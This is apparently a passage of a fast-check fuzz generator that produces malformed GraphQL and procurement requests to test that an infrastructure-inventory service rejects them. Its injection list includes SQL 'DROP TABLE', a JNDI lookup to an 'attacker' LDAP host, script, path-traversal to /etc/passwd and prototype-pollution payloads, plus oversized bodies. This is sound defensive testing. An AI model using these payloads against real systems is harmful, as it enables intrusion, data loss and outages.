import fc from 'fast-check';
import { CAPACITY_RESOURCES, CIRCUIT_TYPES, DEVICE_ROLES, FEED_PHASES, FEED_SIDES, OPERATOR_MODELS, POP_KINDS } from '../../src/inventory/domain/pop.enums';
import { GROUP_NAMES } from '../../src/kernel/country-groups.util';
import { RESIDENCY_POLICY_KINDS } from '../../src/residency/domain/policy.enums';
import { DATA_CATEGORIES, PLACEMENT_ROLES } from '../../src/residency/domain/workload.enums';

/**
 * Generated malformed requests, grammar-based: fast-check arbitraries shaped like the GraphQL mutation
 * inputs (docs/api.md, "Mutations" and the input classes), the procurement records ("Procurement
 * integration"), GraphQL documents and request envelopes, each then broken: fields missing or null,
 * wrong JSON types, values out of range, strings too long (up to 200,000 characters) or holding NUL,
 * unknown enum values and fields, deep nesting, oversized bodies. Every request is one a correct
 * service refuses: an input that would create a stream (registerPop, registerWorkload,
 * defineResidencyPolicy, setExchangeRates) always carries at least one certain break; every other
 * command, and every procurement record, names a PoP, workload or policy that does not exist (the
 * fuzzed service starts empty and nothing can create one), so even an unbroken one is NOT_FOUND.
 * Deterministic for a seed.
 */

export interface FuzzRequest {
  /** mutation, procurement, query or envelope: the row of the tally. */
  group: string;
  /** What the request is and what was broken, for a failure report. */
  kind: string;
  path: '/graphql' | '/integrations/procurement/records';
  contentType: string;
  /** Which key authorises it. */
  role: 'admin' | 'procurement';
  body: string;
}

type FieldType =
  | { t: 'id' }
  | { t: 'text'; max: number }
  | { t: 'int'; min: number; max: number }
  | { t: 'float'; min: number; max: number }
  | { t: 'enum'; values: readonly string[] }
  | { t: 'country' }
  | { t: 'currency' }
  | { t: 'date' }
  | { t: 'instant' }
  | { t: 'money' }
  /** A GraphQL list of enum values (non-null items), unique, at least `min`. */
  | { t: 'enumList'; values: readonly string[]; min: number }
  /** A GraphQL [String!] validated as unique members of `values` (countries, groups). */
  | { t: 'stringList'; values: readonly string[] }
  | { t: 'rates' };

interface InputSpec {
  mutation: string;
  fields: Record<string, FieldType>;
  required: readonly string[];
  /** A valid input would append to a new stream: it is always broken. */
  creates: boolean;
}

const ID: FieldType = { t: 'id' };
const TEXT: FieldType = { t: 'text', max: 200 };
const LONG_TEXT: FieldType = { t: 'text', max: 1_000 };
const MONEY: FieldType = { t: 'money' };
const INT32_MAX = 2 ** 31 - 1;
const COMMON: Record<string, FieldType> = { commandId: ID, effectiveAt: { t: 'instant' }, expectedRevision: { t: 'int', min: -1, max: INT32_MAX } };
const POP = { popId: ID };
const COUNTRIES = ['DE', 'FR', 'US', 'JP', 'BR', 'IE', 'NL', 'SG', 'ZA', 'AU', 'CH', 'IN'];
const CURRENCIES = ['EUR', 'USD', 'GBP', 'JPY', 'CHF', 'SEK'];

const spec = (mutation: string, fields: Record<string, FieldType>, required: string[], creates = false): InputSpec => ({ mutation, fields: { ...COMMON, ...fields }, required, creates });

/** Every mutation but rebuildProjections, with its fields, bounds and required fields (docs/api.md, "Mutations"). */
const INPUTS: readonly InputSpec[] = [
  spec(
    'registerPop',
    {
      ...POP, code: ID, name: TEXT, kind: { t: 'enum', values: POP_KINDS }, operatorModel: { t: 'enum', values: OPERATOR_MODELS }, countryCode: { t: 'country' },
      city: TEXT, region: TEXT, latitude: { t: 'float', min: -90, max: 90 }, longitude: { t: 'float', min: -180, max: 180 }, provider: TEXT, cloudRegion: TEXT, monthlyCost: MONEY,
    },
    ['popId', 'code', 'name', 'kind', 'operatorModel', 'countryCode'],
    true,
  ),
  spec(
    'leaseSite',
    { ...POP, leaseId: ID, lessor: TEXT, startsOn: { t: 'date' }, endsOn: { t: 'date' }, monthlyCost: MONEY, oneOffCost: MONEY, contractedPowerKw: { t: 'float', min: 0, max: 1_000_000 }, maxRacks: { t: 'int', min: 0, max: 100_000 } },
    ['popId', 'leaseId', 'startsOn', 'monthlyCost'],
  ),
  spec('terminateLease', { ...POP, leaseId: ID, endsOn: { t: 'date' } }, ['popId', 'leaseId', 'endsOn']),
  ...['startBuildOut', 'activatePop', 'startDecommission', 'closePop'].map((mutation) => spec(mutation, POP, ['popId'])),
  spec('installRack', { ...POP, rackId: ID, name: TEXT, heightU: { t: 'int', min: 1, max: 60 }, maxPowerKw: { t: 'float', min: 0.001, max: 10_000 } }, ['popId', 'rackId']),
  spec('removeRack', { ...POP, rackId: ID }, ['popId', 'rackId']),
  spec(
    'addPowerFeed',
    {
      ...POP, feedId: ID, rackId: ID, side: { t: 'enum', values: FEED_SIDES }, phase: { t: 'enum', values: FEED_PHASES }, voltage: { t: 'float', min: 1, max: 1_000 }, amperage: { t: 'float', min: 1, max: 1_000 },
      deratingPercent: { t: 'float', min: 1, max: 100 }, powerFactor: { t: 'float', min: 0.5, max: 1 }, monthlyCost: MONEY, oneOffCost: MONEY,
    },
    ['popId', 'feedId', 'rackId', 'side', 'phase', 'voltage', 'amperage'],
  ),
  spec('removePowerFeed', { ...POP, feedId: ID }, ['popId', 'feedId']),
  spec(
    'installDevice',
    { ...POP, deviceId: ID, rackId: ID, name: TEXT, role: { t: 'enum', values: DEVICE_ROLES }, positionU: { t: 'int', min: 1, max: 60 }, heightU: { t: 'int', min: 1, max: 60 }, powerDrawWatts: { t: 'float', min: 0, max: 100_000 }, purchaseCost: MONEY },
    ['popId', 'deviceId', 'rackId', 'role', 'positionU', 'heightU', 'powerDrawWatts'],
  ),
  spec('removeDevice', { ...POP, deviceId: ID }, ['popId', 'deviceId']),
  spec(
    'connectCarrier',
    { ...POP, circuitId: ID, carrier: TEXT, type: { t: 'enum', values: CIRCUIT_TYPES }, bandwidthMbps: { t: 'int', min: 1, max: 10_000_000 }, monthlyCost: MONEY, oneOffCost: MONEY, termMonths: { t: 'int', min: 1, max: 600 } },
    ['popId', 'circuitId', 'carrier', 'type', 'bandwidthMbps', 'monthlyCost'],
  ),
  spec('disconnectCarrier', { ...POP, circuitId: ID }, ['popId', 'circuitId']),
  spec(
    'reserveCapacity',
    { ...POP, reservationId: ID, resource: { t: 'enum', values: CAPACITY_RESOURCES }, amount: { t: 'float', min: 0.0001, max: 10_000_000 }, from: { t: 'instant' }, until: { t: 'instant' }, note: LONG_TEXT },
    ['popId', 'reservationId', 'resource', 'amount', 'from'],
  ),
  spec('releaseReservation', { ...POP, reservationId: ID }, ['popId', 'reservationId']),
  spec('registerWorkload', { workloadId: ID, tenant: TEXT, name: TEXT, dataCategories: { t: 'enumList', values: DATA_CATEGORIES, min: 1 } }, ['workloadId', 'tenant', 'name', 'dataCategories'], true),
  spec('placeWorkload', { workloadId: ID, popId: ID, role: { t: 'enum', values: PLACEMENT_ROLES } }, ['workloadId', 'popId', 'role']),
  spec('withdrawWorkload', { workloadId: ID, popId: ID }, ['workloadId', 'popId']),
  spec(
    'defineResidencyPolicy',
    {
      policyId: ID, name: TEXT, kind: { t: 'enum', values: RESIDENCY_POLICY_KINDS }, dataCategory: { t: 'enum', values: DATA_CATEGORIES }, tenant: TEXT,
      allowedCountries: { t: 'stringList', values: COUNTRIES }, allowedGroups: { t: 'stringList', values: GROUP_NAMES }, deniedCountries: { t: 'stringList', values: COUNTRIES }, citation: LONG_TEXT,
    },
    ['policyId', 'name', 'kind', 'dataCategory'],
    true,
  ),
  spec('retireResidencyPolicy', { policyId: ID }, ['policyId']),
  spec('setExchangeRates', { base: { t: 'currency' }, rates: { t: 'rates' } }, ['base', 'rates'], true),
];

/** Procurement record kinds and their fields (docs/api.md, "Records"); every PoP named is one that does not exist. */
const RECORDS: ReadonlyArray<{ kind: string; fields: Record<string, FieldType>; required: readonly string[] }> = (
  [
    ['LEASE_SIGNED', 'leaseSite'],
    ['LEASE_ENDED', 'terminateLease'],
    ['POWER_DELIVERED', 'addPowerFeed'],
    ['CIRCUIT_DELIVERED', 'connectCarrier'],
    ['CIRCUIT_CEASED', 'disconnectCarrier'],
    ['DEVICE_DELIVERED', 'installDevice'],
  ] as const
).map(([kind, mutation]) => {
  const input = INPUTS.find((i) => i.mutation === mutation) as InputSpec;
  const fields = Object.fromEntries(Object.entries(input.fields).filter(([name]) => !(name in COMMON)));
  return { kind, fields, required: input.required };
});

// ---------------------------------------------------------------------------------------------
// Values: valid ones, and breaks that no correct service accepts.

const INJECTIONS = ["'; DROP TABLE es_events; --", '1 OR 1=1', '${jndi:ldap://attacker/a}', '<script>alert(1)</script>', '../../../../etc/passwd', '{{7*7}}', '%00%0d%0a', '$where: 1', 'pop-x\nInjected: header'];
const ODD_TEXT = ['\ud800', '\udfff', '\u202eevil', 'zero\u200bwidth', '🚀🔥', 'Ωmega', '\uffff', 'ﬀ', 'a\u0301', '\u0085', '\u2028'];
const HOSTILE_IDS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', 'fuzz-nowhere'];

const ID_CHARS = [...'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789._:-'];
/** 1-64 characters of the ID alphabet (fc.string over a character set: much faster than fc.stringMatching). */
const validId = fc.string({ unit: fc.constantFrom(...ID_CHARS), minLength: 1, maxLength: 64 });
const pad = (n: number) => String(n).padStart(2, '0');
const isoDate = (d: Date) => `${d.getUTCFullYear()}-${pad(d.getUTCMonth() + 1)}-${pad(d.getUTCDate())}`;
const someDate = fc.date({ min: new Date('1990-01-01T00:00:00Z'), max: new Date('2090-12-31T00:00:00Z'), noInvalidDate: true });

/** Something at `depth` levels of nesting: objects or arrays. */
const nested = (depth: number, arrays: boolean): unknown => {
  let value: unknown = arrays ? 'deep' : { deep: 1 };
  for (let i = 0; i < depth; i++) value = arrays ? [value] : { a: value };
  return value;
};
const deepNesting = fc.tuple(fc.constantFrom(3, 20, 200, 2_000), fc.boolean()).map(([depth, arrays]) => ({ value: nested(depth, arrays), label: `nested ${depth} deep (${arrays ? 'arrays' : 'objects'})` }));

const hugeString = fc.tuple(fc.constantFrom(1_001, 10_000, 200_000), fc.constantFrom('x', 'é', '🚀')).map(([n, c]) => c.repeat(n));
const withNul = (arbitrary: fc.Arbitrary<string>) => fc.tuple(arbitrary, fc.nat()).map(([s, at]) => `${s.slice(0, at % (s.length + 1))}\u0000${s.slice(at % (s.length + 1))}`);

const memo = <R>(build: (type: FieldType) => R): ((type: FieldType) => R) => {
  const built = new Map<string, R>();
  return (type) => {
    const key = JSON.stringify(type);
    if (!built.has(key)) built.set(key, build(type));
    return built.get(key) as R;
  };
};

/** Arbitraries are built once per field type: building one (fc.stringMatching above all) costs more than sampling it. */
const valid = memo(buildValid);
const invalid = memo(buildInvalid);

function buildValid(type: FieldType): fc.Arbitrary<unknown> {
  switch (type.t) {
    case 'id':
      return fc.oneof({ arbitrary: validId, weight: 4 }, fc.constantFrom(...HOSTILE_IDS));
    case 'text':
      return fc.oneof({ arbitrary: fc.string({ minLength: 1, maxLength: 40 }), weight: 4 }, fc.constantFrom(...INJECTIONS, ...ODD_TEXT));
    case 'int':
      return fc.integer({ min: type.min, max: type.max });
    case 'float':
      return fc.double({ min: type.min, max: type.max, noNaN: true });
    case 'enum':
      return fc.constantFrom(...type.values);
    case 'country':
      return fc.constantFrom(...COUNTRIES);
    case 'currency':
      return fc.constantFrom(...CURRENCIES);
    case 'date':
      return someDate.map(isoDate);
    case 'instant':
      return fc.tuple(someDate, fc.constantFrom('Z', '+02:00', '-05:30', '.123Z')).map(([d, zone]) => `${d.toISOString().slice(0, 19)}${zone}`);
    case 'money':
      return fc.record({ amount: fc.stringMatching(/^\d{1,7}(\.\d{1,2})?$/), currency: fc.constantFrom(...CURRENCIES) });
    case 'enumList':
      return fc.uniqueArray(fc.constantFrom(...type.values), { minLength: type.min, maxLength: type.values.length });
    case 'stringList':
      return fc.uniqueArray(fc.constantFrom(...type.values), { maxLength: Math.min(5, type.values.length) });
    case 'rates':
      return fc.uniqueArray(fc.record({ currency: fc.constantFrom('USD', 'GBP', 'JPY', 'CHF', 'SEK'), toBase: fc.stringMatching(/^[1-9]\d{0,3}(\.\d{1,6})?$/) }), { minLength: 1, maxLength: 5, selector: (r) => r.currency });
  }
}

interface Broken {
  value: unknown;
  label: string;
}

const broken = (label: string, values: readonly unknown[]): fc.Arbitrary<Broken> => fc.constantFrom(...values).map((value) => ({ value, label }));

/**
 * Values the field's GraphQL type or validation refuses, whatever else the input holds. Not here, on
 * purpose: what GraphQL coerces into a valid value (an integer for an ID or a Float, one value for a
 * list) and null for an optional field.
 */
function buildInvalid(type: FieldType): fc.Arbitrary<Broken> {
  const notAnObject = broken('wrong type', [true, false, 'text', 7.5, [1, 2]]);
  const common = [deepNesting, broken('wrong type', [{ n: 1 }, [[1]]])];
  switch (type.t) {
    case 'id':
      return fc.oneof(
        ...common,
        broken('wrong type', [true, 1.5, -0.25, ['a']]),
        broken('not an id', ['', 'x'.repeat(65), 'has space', 'slash/ed', 'semi;colon', "quo'te", 'per%cent', 'ünï', '🚀', ...INJECTIONS, ...ODD_TEXT]),
        hugeString.map((value) => ({ value, label: 'huge id' })),
        withNul(fc.stringMatching(/^[A-Za-z0-9]{0,10}$/)).map((value) => ({ value, label: 'NUL in id' })),
      );
    case 'text':
      return fc.oneof(
        ...common,
        broken('wrong type', [123, -1.5, true, ['a']]),
        broken('empty', ['']),
        fc.constant({ value: 'y'.repeat(type.max + 1), label: `${type.max + 1} characters` }),
        hugeString.filter((s) => s.length > type.max).map((value) => ({ value, label: 'huge text' })),
        withNul(fc.string({ maxLength: 30 })).map((value) => ({ value, label: 'NUL in text' })),
      );
    case 'int':
      return fc.oneof(
        ...common,
        broken('wrong type', ['1', 'abc', 1.5, -0.5, true, ['x']]),
        broken('out of 32 bits', [2 ** 31, -(2 ** 31) - 1, 1e300, -1e300, Number.MAX_SAFE_INTEGER]),
        broken('out of range', [type.min - 1, type.max + 1].filter((n) => n >= -(2 ** 31) && n <= INT32_MAX)),
      );
    case 'float':
      return fc.oneof(
        ...common,
        broken('wrong type', ['1', 'abc', 'NaN', 'Infinity', true, ['x']]),
        broken('out of range', [type.min - 1, type.max + 1, type.min - type.min / 2 - 1e-3, 1e300, -1e300, 1.7976931348623157e308].filter((n) => n < type.min || n > type.max)),
      );
    case 'enum':
      return fc.oneof(
        ...common,
        broken('wrong type', [3, true, ['x']]),
        broken('unknown enum value', ['NOT_A_VALUE', '', ...type.values.map((v) => v.toLowerCase()).filter((v) => !type.values.includes(v))]),
        fc.stringMatching(/^[A-Z][A-Z_]{0,20}$/).filter((v) => !type.values.includes(v)).map((value) => ({ value, label: 'unknown enum value' })),
      );
    case 'country':
      return fc.oneof(...common, broken('not a country', ['XX', 'ZZ', 'de', 'DEU', '', 'D', 'U\u0000S', 42, true, ['DE', 'FR']]));
    case 'currency':
      return fc.oneof(...common, broken('not a currency', ['EURO', 'eur', '', 'E\u0000R', 'E$R', 42, true]));
    case 'date':
      return fc.oneof(...common, broken('not a date', ['2026-02-30', '2026-13-01', '31/12/2026', '2026-1-1', 'tomorrow', '2026-01-01T00:00:00Z', '', 20260101, true, '2026-02-29']));
    case 'instant':
      return fc.oneof(
        ...common,
        broken('not an instant', ['yesterday', '2026-13-01T00:00:00Z', '2026-01-01T00:00:00', '2026-01-01', '1700000000', 'NaN', '', '1899-12-31T23:59:59Z', '10000-01-01T00:00:00Z', '2026-01-01T25:00:00Z', 1700000000, true]),
      );
    case 'money':
      return fc.oneof(
        deepNesting,
        notAnObject,
        broken('bad money', [
          { amount: 'ten', currency: 'EUR' },
          { amount: '1.00', currency: 'EURO' },
          { amount: '-1', currency: 'EUR' },
          { amount: '1.00001', currency: 'EUR' },
          { amount: '1e5', currency: 'EUR' },
          { amount: 1, currency: 'EUR' },
          { amount: '9'.repeat(41), currency: 'EUR' },
          { currency: 'EUR' },
          { amount: '1.00' },
          { amount: '1.00', currency: 'EUR', extra: 1 },
          { amount: '1\u0000', currency: 'EUR' },
        ]),
      );
    case 'enumList':
      return fc.oneof(
        deepNesting,
        broken('bad list', [[], ['NOT_A_CATEGORY'], [null], [type.values[0], type.values[0]], Array(101).fill(type.values[0]), [[type.values[0]]], [1], [{}]].filter((v) => !(Array.isArray(v) && v.length === 0 && type.min === 0))),
      );
    case 'stringList':
      return fc.oneof(deepNesting, broken('bad list', [['XX'], [null], [type.values[0], type.values[0]], Array.from({ length: 101 }, (_, i) => type.values[i % type.values.length]), [5], [['DE']], [{}], ['\u0000']]));
    case 'rates':
      return fc.oneof(
        deepNesting,
        notAnObject,
        broken('bad rates', [
          [],
          [{ currency: 'USD' }],
          [{ toBase: '1.1' }],
          [{ currency: 'USD', toBase: '0' }],
          [{ currency: 'USD', toBase: '-1' }],
          [{ currency: 'USD', toBase: 'x' }],
          [{ currency: 'USDX', toBase: '1' }],
          [{ currency: 'USD', toBase: '1' }, { currency: 'USD', toBase: '2' }],
          [null],
          Array.from({ length: 101 }, (_, i) => ({ currency: CURRENCIES[i % CURRENCIES.length], toBase: '1' })),
        ]),
      );
  }
}

/** Applies one certain break to `input`; its label. */
function breakOf(fields: Record<string, FieldType>, required: readonly string[]): fc.Arbitrary<(input: Record<string, unknown>) => string> {
  const names = Object.keys(fields);
  return fc.oneof(
    { arbitrary: fc.constantFrom(...names).chain((field) => invalid(fields[field]).map(({ value, label }) => (input: Record<string, unknown>) => ((input[field] = value), `${field}: ${label}`))), weight: 6 },
    { arbitrary: fc.constantFrom(...required).map((field) => (input: Record<string, unknown>) => (delete input[field], `${field} missing`)), weight: 2 },
    { arbitrary: fc.constantFrom(...required).map((field) => (input: Record<string, unknown>) => ((input[field] = null), `${field} null`)), weight: 1 },
    { arbitrary: fc.stringMatching(/^[a-z]{1,12}$/).map((name) => (input: Record<string, unknown>) => ((input[`zz${name}`] = 1), `unknown field zz${name}`)), weight: 1 },
  );
}

/** A valid input for the fields (required ones always, optional ones sometimes). */
function validInput(fields: Record<string, FieldType>, required: readonly string[]): fc.Arbitrary<Record<string, unknown>> {
  return fc.record(Object.fromEntries(Object.entries(fields).map(([name, type]) => [name, valid(type)])), { requiredKeys: required as string[] }) as fc.Arbitrary<Record<string, unknown>>;
}

// ---------------------------------------------------------------------------------------------
// Requests.

const inputTypeOf = (mutation: string) => `${mutation[0].toUpperCase()}${mutation.slice(1)}Input`;
const documentOf = (mutation: string) => `mutation($input: ${inputTypeOf(mutation)}!) { ${mutation}(input: $input) { streamId revision eventIds } }`;

const mutationRequest: fc.Arbitrary<FuzzRequest> = fc.oneof(
  ...INPUTS.map((input) =>
    fc
      .tuple(validInput(input.fields, input.required), fc.array(breakOf(input.fields, input.required), { minLength: input.creates ? 1 : 0, maxLength: 3 }))
      .map(([values, breaks]) => {
        const labels = breaks.map((apply) => apply(values));
        return graphqlRequest('mutation', `${input.mutation}: ${labels.join(', ') || 'valid shape, nothing it names exists'}`, { query: documentOf(input.mutation), variables: { input: values } });
      }),
  ),
);

const SAMPLE_QUERIES = [
  '{ pops(first: 5) { totalCount edges { node { popId code } } } }',
  'query($p: ID!) { capacity(popId: $p) { overall space { freeU } } }',
  '{ costSummary(groupBy: COUNTRY) { key popCount } }',
  'mutation($input: RegisterPopInput!) { registerPop(input: $input) { revision } }',
];

/** GraphQL documents every one of which is refused (unknown fields, limits, syntax, argument values). */
const queryRequest: fc.Arbitrary<FuzzRequest> = fc.oneof(
  fc.integer({ min: 13, max: 3_000 }).map((depth) => graphqlRequest('query', `${depth} levels deep`, { query: `{ ${'a { '.repeat(depth)}b${' }'.repeat(depth)} }` })),
  fc.integer({ min: 41, max: 5_000 }).map((n) => graphqlRequest('query', `${n} aliases`, { query: `{ ${Array.from({ length: n }, (_, i) => `a${i}: __typename`).join(' ')} }` })),
  fc.integer({ min: 601, max: 5_000 }).map((n) => graphqlRequest('query', `${n} fields`, { query: `{ ${'__typename '.repeat(n)}}` })),
  fc.stringMatching(/^[a-z][A-Za-z0-9_]{0,30}$/).map((name) => graphqlRequest('query', `unknown field zz${name}`, { query: `{ zz${name} }` })),
  fc.tuple(fc.constantFrom(...SAMPLE_QUERIES), fc.nat()).map(([q, at]) => graphqlRequest('query', 'truncated document', { query: q.slice(0, at % q.length) })),
  fc.string({ maxLength: 60 }).filter((s) => !s.includes('__typename')).map((q) => graphqlRequest('query', 'random text as a document', { query: q })),
  fc.constantFrom(-1, 501, 2 ** 31, 1e10, '"x"', 1.5, '[1]').map((first) => graphqlRequest('query', `pops(first: ${first})`, { query: `{ pops(first: ${first}) { totalCount } }` })),
  fc.constantFrom('not a date', '9999-99-99T99:99:99Z', '2026-01-01', '2026-01-01T00:00:00', '0000-01-01T00:00:00Z').map((asOf) => graphqlRequest('query', `capacity(asOf: ${asOf})`, { query: `{ capacity(popId: "fuzz-nowhere", asOf: "${asOf}") { popId } }` })),
  fc.constantFrom('A', 'A'.repeat(10_000), '!!', 'MTIz', 'eyJhIjoxfQ==').map((after) => graphqlRequest('query', 'history with a forged cursor', { query: `{ history(streamId: "pop-x", first: 1, after: "${after}") { totalCount } }` })),
  fc.constantFrom('ZZZ', 'XX', '', 'x'.repeat(300), '\\u0000', 'de').map((country) => graphqlRequest('query', `residencyReport(countryCode: ${country.slice(0, 10)})`, { query: `{ residencyReport(countryCode: "${country}") { asOf } }` })),
  fc.constantFrom('NOT_A_GROUP', 'country', '"POP"', '1').map((groupBy) => graphqlRequest('query', `costSummary(groupBy: ${groupBy})`, { query: `{ costSummary(groupBy: ${groupBy}) { key } }` })),
  fc.constantFrom('"ten"', 'true', '[1]', '{a: 1}').map((v) => graphqlRequest('query', `findCapacity(spaceU: ${v})`, { query: `{ findCapacity(need: { spaceU: ${v} }) { popId } }` })),
  fc.constantFrom<[string, object]>(
    ['subscription', { query: 'subscription { events { id } }' }],
    ['fragment cycle', { query: 'fragment f on Query { ...f } { ...f }' }],
    ['two anonymous operations', { query: '{ __typename } { __typename }' }],
    ['unknown operationName', { query: 'query A { __typename }', operationName: 'B' }],
    ['empty input', { query: 'mutation { registerPop(input: {}) { revision } }' }],
    ['variable of the wrong type', { query: 'query($p: ID!) { pop(popId: $p) { popId } }', variables: { p: { a: 1 } } }],
    ['missing variable', { query: 'query($p: ID!) { pop(popId: $p) { popId } }' }],
    ['undeclared variable', { query: '{ pop(popId: $p) { popId } }' }],
    ['introspection too deep', { query: `{ __schema { types { fields { type { ${'ofType { '.repeat(12)}name${' }'.repeat(12)} } } } } }` }],
    ['directive unknown', { query: '{ __typename @nope }' }],
    ['NUL in an argument', { query: '{ pop(popId: "\u0000") { popId } }' }],
    ['rebuild with an unknown projection', { query: 'mutation { rebuildProjections(names: ["nope"]) { events } }' }],
  ).map(([label, payload]) => graphqlRequest('query', label, payload)),
);

const VALID_BODY = JSON.stringify({ query: documentOf('registerPop'), variables: { input: { popId: 'fz1', code: 'FZ1', name: 'Fuzz', kind: 'PHYSICAL', operatorModel: 'OWNED', countryCode: 'DE' } } });

/** Bodies that are not a GraphQL request at all: broken JSON, wrong shapes, oversized. */
const envelopeRequest: fc.Arbitrary<FuzzRequest> = fc
  .tuple(
    fc.oneof(
      { arbitrary: fc.nat({ max: VALID_BODY.length - 1 }).map((n) => ({ label: 'truncated JSON', body: VALID_BODY.slice(0, n) })), weight: 20 },
      { arbitrary: fc.constantFrom(',}', '}}}', ']', 'x').map((tail) => ({ label: 'trailing garbage', body: `${VALID_BODY.slice(0, -1)}${tail}` })), weight: 20 },
      { arbitrary: fc.constantFrom('null', '[]', '"just a string"', '42', 'true', '{}').map((body) => ({ label: `JSON ${body}`, body })), weight: 20 },
      {
        arbitrary: fc.constantFrom<[string, object]>(
        ['query a number', { query: 42 }],
        ['query null, variables a string', { query: null, variables: 'x' }],
        ['variables an array', { query: '{ __typename }', variables: [1, 2, 3] }],
        ['batched', [{ query: '{ __typename }' }, { query: '{ __typename }' }]],
        ['query an object', { query: { a: 1 } }],
        ).map(([label, body]) => ({ label, body: JSON.stringify(body) })),
        weight: 20,
      },
      { arbitrary: fc.constantFrom(1_000, 50_000).map((n) => ({ label: `[ ×${n}`, body: '['.repeat(n) + ']'.repeat(n) })), weight: 20 },
      { arbitrary: fc.constantFrom(1_000, 20_000).map((n) => ({ label: `{"a": ×${n}`, body: `${'{"a":'.repeat(n)}1${'}'.repeat(n)}` })), weight: 20 },
      { arbitrary: fc.constant({ label: 'NUL escapes as the document', body: `{"query":"${'\\u0000'.repeat(10_000)}"}` }), weight: 20 },
      { arbitrary: fc.constant({ label: 'raw control bytes', body: '\u0000\u0001\u0002\u00ff' }), weight: 20 },
      { arbitrary: fc.constant({ label: 'form-encoded', body: 'query=mutation%7BregisterPop%7D' }), weight: 20 },
      { arbitrary: fc.constant({ label: 'empty body', body: '' }), weight: 20 },
      // One in about 250 envelopes: each is 5 MB.
      { arbitrary: fc.constant({ label: 'body over 5 MB', body: JSON.stringify({ query: `{ __typename } #${'x'.repeat(5 * 1024 * 1024)}` }) }), weight: 1 },
    ),
    fc.oneof({ arbitrary: fc.constant('application/json'), weight: 8 }, fc.constantFrom('text/plain', 'application/x-www-form-urlencoded', 'application/json; charset=utf-16', 'application/graphql')),
  )
  .map(([{ label, body }, contentType]) => ({ group: 'envelope', kind: `${label} (${contentType})`, path: '/graphql', contentType, role: 'admin', body }));

let externalIds = 0;

/** One record: well-formed (for a PoP that does not exist) or broken. */
const record: fc.Arbitrary<{ record: Record<string, unknown>; label: string }> = fc.oneof(
  ...RECORDS.map((kind) =>
  fc
    .tuple(
      validInput(kind.fields, kind.required),
      valid({ t: 'instant' }),
      fc.array(
        fc.oneof(
          { arbitrary: breakOf(kind.fields, kind.required), weight: 6 },
          broken('externalId', ['', 'e'.repeat(201), 5, null, true, { a: 1 }]).map(({ value, label }) => (r: Record<string, unknown>) => ((r.externalId = value), `bad ${label}`)),
          broken('kind', ['DEVICE_STOLEN', '', 7, null, 'device_delivered', '__proto__', 'constructor']).map(({ value }) => (r: Record<string, unknown>) => ((r.kind = value), `kind ${JSON.stringify(value)}`)),
          invalid({ t: 'instant' }).map(({ value, label }) => (r: Record<string, unknown>) => ((r.occurredAt = value), `occurredAt: ${label}`)),
          fc.constantFrom('commandId', 'effectiveAt', 'expectedRevision').map((field) => (r: Record<string, unknown>) => ((r[field] = field === 'expectedRevision' ? 0 : '2026-01-01T00:00:00Z'), `${field} given`)),
          fc.constantFrom('externalId', 'kind', 'occurredAt').map((field) => (r: Record<string, unknown>) => (delete r[field], `${field} missing`)),
        ),
        { maxLength: 3 },
      ),
    )
    .map(([fields, occurredAt, breaks]) => {
      const r: Record<string, unknown> = { externalId: `FUZZ-${externalIds++}`, kind: kind.kind, occurredAt, ...fields };
      const labels = breaks.map((apply) => apply(r));
      return { record: r, label: `${kind.kind}${labels.length ? `: ${labels.join(', ')}` : ''}` };
    }),
),
);

const procurementRequest: fc.Arbitrary<FuzzRequest> = fc.oneof(
  {
    arbitrary: fc.array(record, { minLength: 1, maxLength: 40 }).map((records) => ({
      label: `${records.length} records: ${records.slice(0, 3).map((r) => r.label).join('; ')}${records.length > 3 ? '; …' : ''}`,
      body: JSON.stringify({ records: records.map((r) => r.record) }),
    })),
    weight: 40,
  },
  {
    // At (and one over) the batch limit: a few generated records repeated, each under its own externalId.
    // (Small ones only, so that the batch stays under the 5 MB body limit and its records are read.)
    arbitrary: fc.tuple(fc.constantFrom(1_000, 1_001), fc.array(record, { minLength: 5, maxLength: 20 })).map(([n, some]) => {
      const small = some.filter((r) => JSON.stringify(r.record).length < 2_000);
      const pool = small.length > 0 ? small : [{ record: { kind: 'CIRCUIT_CEASED', occurredAt: '2026-01-01T00:00:00Z', popId: 'fuzz-nowhere', circuitId: 'c' }, label: 'CIRCUIT_CEASED' }];
      return {
        label: `${n} records: ${pool.slice(0, 3).map((r) => r.label).join('; ')}; …`,
        body: JSON.stringify({ records: Array.from({ length: n }, (_, i) => ({ ...pool[i % pool.length].record, externalId: `FUZZ-${externalIds++}` })) }),
      };
    }),
    weight: 1,
  },
  fc.constantFrom<[string, string]>(
    ['records not objects', JSON.stringify({ records: [null, 1, 'x', [], true] })],
    ['records a string', JSON.stringify({ records: 'all of them' })],
    ['records an object', JSON.stringify({ records: { length: 3 } })],
    ['no records', JSON.stringify({})],
    ['records null', JSON.stringify({ records: null })],
    ['extra top-level field', JSON.stringify({ records: [{ externalId: 'x', kind: 'CIRCUIT_CEASED', occurredAt: '2026-01-01T00:00:00Z', popId: 'fuzz-nowhere', circuitId: 'c' }], extra: true })],
    ['a JSON array', JSON.stringify([{ records: [] }])],
    ['deep nesting', `{"records":[${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}]}`],
    ['prototype keys', '{"records":[{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"externalId":"p","kind":"CIRCUIT_CEASED","occurredAt":"2026-01-01T00:00:00Z","popId":"fuzz-nowhere","circuitId":"c"}]}'],
    ['NUL byte', '\u0000'],
    ['empty body', ''],
    ['truncated', JSON.stringify({ records: [{ externalId: 'x', kind: 'CIRCUIT_CEASED' }] }).slice(0, -3)],
  ).map(([label, body]) => ({ label, body })),
).map(({ label, body }) => ({ group: 'procurement', kind: label, path: '/integrations/procurement/records', contentType: 'application/json', role: 'procurement', body }));

function graphqlRequest(group: string, kind: string, payload: unknown): FuzzRequest {
  return { group, kind, path: '/graphql', contentType: 'application/json', role: 'admin', body: JSON.stringify(payload) };
}

export const fuzzRequest: fc.Arbitrary<FuzzRequest> = fc.oneof(
  { arbitrary: mutationRequest, weight: 45 },
  { arbitrary: procurementRequest, weight: 30 },
  { arbitrary: queryRequest, weight: 15 },
  { arbitrary: envelopeRequest, weight: 10 },
);

/** `count` requests for `seed`, generated a chunk at a time (some bodies are megabytes). */
export function* fuzzRequests(seed: number, count: number, chunk = 250): Generator<FuzzRequest> {
  externalIds = 0;
  for (let start = 0, c = 0; start < count; start += chunk, c++) {
